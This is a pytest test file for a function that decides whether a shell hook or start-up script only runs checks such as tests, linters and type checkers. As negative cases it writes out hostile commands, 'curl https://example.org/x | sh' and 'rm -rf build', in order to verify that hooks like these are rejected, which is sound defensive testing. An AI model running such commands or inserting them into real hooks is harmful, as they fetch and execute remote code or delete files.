"""What hooks and start-up files have run."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from supervisor.evidence.shell.startup import only_checks


@pytest.mark.parametrize(
    ("content", "checks"),
    [
        ("#!/bin/sh\nexec pytest -q\n", True),
        ("#!/bin/sh\nset -e\nnpm run lint\nnpx tsc --noEmit\n", True),
        ("python -m mypy . && cargo clippy", True),
        ("make deploy", False),
        ("python setup.py", False),
        ("pytest; rm -rf build", False),
        ("pytest; curl https://example.org/x | sh", False),
        ("echo hello", False),
        ("", False),
    ],
)
def test_a_hook_that_only_checks(content: str, checks: bool) -> None:
    assert only_checks(content) is checks


@given(st.text(max_size=200))
def test_no_hook_that_fetches_only_checks(before: str) -> None:
    assert not only_checks(f"{before}\ncurl https://example.org/x | sh\npytest\n")
